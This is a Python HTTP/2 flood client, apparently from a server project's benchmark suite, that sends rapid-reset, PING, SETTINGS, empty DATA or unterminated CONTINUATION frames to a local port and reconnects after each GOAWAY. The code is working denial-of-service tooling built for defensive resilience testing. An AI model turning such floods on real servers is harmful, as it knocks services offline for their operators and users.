#!/usr/bin/python3
"""A hostile HTTP/2 client that keeps one flood going against a server for a given time.

Usage: h2_flood.py PORT KIND SECONDS [RATE]
KIND: rapid-reset (HEADERS then RST_STREAM), ping, settings, empty-data (DATA frames with no
octets on an open request), continuation (CONTINUATION frames without end), each RATE units a
second (default 2000), over cleartext HTTP/2 with prior knowledge (h2c) to 127.0.0.1:PORT.
Whenever the server ends the connection (GOAWAY, close) a new one is made. The last line is a
summary of key=value pairs: units sent, connections made, GOAWAY codes received.
The attacker of bench/floods/run.sh; the single-shot forms are tests/http/h2/h2_raw_client.py.
"""
import collections
import resource
import select
import socket
import struct
import sys
import time

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, RST_STREAM, SETTINGS, PING, GOAWAY, CONTINUATION = 0, 1, 3, 4, 6, 7, 9
END_STREAM, END_HEADERS = 0x1, 0x4
CANCEL = 8


def frame(ftype, flags, stream_id, payload=b""):
    return struct.pack(">I", len(payload))[1:] + struct.pack(">BBI", ftype, flags, stream_id) + payload


def literal(name, value):
    return b"\x00" + bytes([len(name)]) + name + bytes([len(value)]) + value


GET = b"".join(literal(n, v) for n, v in [(b":method", b"GET"), (b":scheme", b"http"),
                                         (b":authority", b"localhost"), (b":path", b"/")])
POST = b"".join(literal(n, v) for n, v in [(b":method", b"POST"), (b":scheme", b"http"),
                                          (b":authority", b"localhost"), (b":path", b"/")])


class Flood:
    def __init__(self, port, kind):
        self.port, self.kind = port, kind
        self.sock = None
        self.units = self.connections = self.connect_failures = 0
        self.goaways = collections.Counter()
        self.closes = 0
        self.sent_bytes = 0

    def connect(self):
        try:
            self.sock = socket.create_connection(("127.0.0.1", self.port), timeout=2)
        except OSError:
            self.connect_failures += 1
            self.sock = None
            time.sleep(0.01)
            return
        self.sock.setblocking(False)
        self.connections += 1
        self.next_id = 1
        self.inbuf = b""
        first = PREFACE + frame(SETTINGS, 0, 0)
        if self.kind == "empty-data":
            first += frame(HEADERS, END_HEADERS, 1, POST)  # a request whose body never comes
            self.next_id = 3
        if self.kind == "continuation":
            first += frame(HEADERS, END_STREAM, 1, GET)  # a header block never ended
        self.out = first

    def unit(self):
        k = self.kind
        if k == "rapid-reset":
            sid = self.next_id
            self.next_id += 2
            return (frame(HEADERS, END_STREAM | END_HEADERS, sid, GET) +
                    frame(RST_STREAM, 0, sid, struct.pack(">I", CANCEL)))
        if k == "ping":
            return frame(PING, 0, 0, struct.pack(">Q", self.units))
        if k == "settings":
            return frame(SETTINGS, 0, 0)
        if k == "empty-data":
            return frame(DATA, 0, 1)
        if k == "continuation":
            return frame(CONTINUATION, 0, 1, literal(b"x-a", b"b"))
        raise SystemExit("unknown kind " + k)

    def drop(self):
        self.closes += 1
        self.sock.close()
        self.sock = None

    def pump(self):
        """Writes what is queued, reads what came; drops the connection once the server ends it."""
        try:
            if self.out:
                n = self.sock.send(self.out)
                self.out = self.out[n:]
                self.sent_bytes += n
        except BlockingIOError:
            pass
        except OSError:
            return self.drop()
        r, _, _ = select.select([self.sock], [], [], 0.001)
        if not r:
            return
        try:
            data = self.sock.recv(65536)
        except BlockingIOError:
            return
        except OSError:
            return self.drop()
        if not data:
            return self.drop()
        self.inbuf += data
        while len(self.inbuf) >= 9:
            length = struct.unpack(">I", b"\x00" + self.inbuf[:3])[0]
            if len(self.inbuf) < 9 + length:
                break
            ftype = self.inbuf[3]
            payload = self.inbuf[9:9 + length]
            self.inbuf = self.inbuf[9 + length:]
            if ftype == GOAWAY and len(payload) >= 8:
                self.goaways[struct.unpack(">I", payload[4:8])[0]] += 1

    def run(self, seconds, rate):
        print("flood started", flush=True)
        end = time.monotonic() + seconds
        last = time.monotonic()
        owed = 0.0
        while time.monotonic() < end:
            if self.sock is None:
                self.connect()
                continue
            now = time.monotonic()
            owed = min(owed + rate * (now - last), max(1.0, rate / 10))
            last = now
            # Bounded: a server that stops reading does not make the flood buffer without end.
            while owed >= 1 and len(self.out) < (1 << 20):
                self.out += self.unit()
                self.units += 1
                owed -= 1
            self.pump()
        usage = resource.getrusage(resource.RUSAGE_SELF)
        cpu = usage.ru_utime + usage.ru_stime
        codes = ",".join("%d:%d" % kv for kv in sorted(self.goaways.items())) or "-"
        print("flood kind=%s seconds=%g rate=%g units=%d connections=%d server_closes=%d "
              "goaway_codes=%s connect_failures=%d sent_bytes=%d cpu_s=%.2f" % (
                  self.kind, seconds, rate, self.units, self.connections, self.closes, codes,
                  self.connect_failures, self.sent_bytes, cpu), flush=True)
        return self.connections > 0


def main():
    if len(sys.argv) not in (4, 5):
        print(__doc__, file=sys.stderr)
        sys.exit(2)
    port, kind, seconds = int(sys.argv[1]), sys.argv[2], float(sys.argv[3])
    rate = float(sys.argv[4]) if len(sys.argv) == 5 else 2000.0
    sys.exit(0 if Flood(port, kind).run(seconds, rate) else 1)


if __name__ == "__main__":
    main()
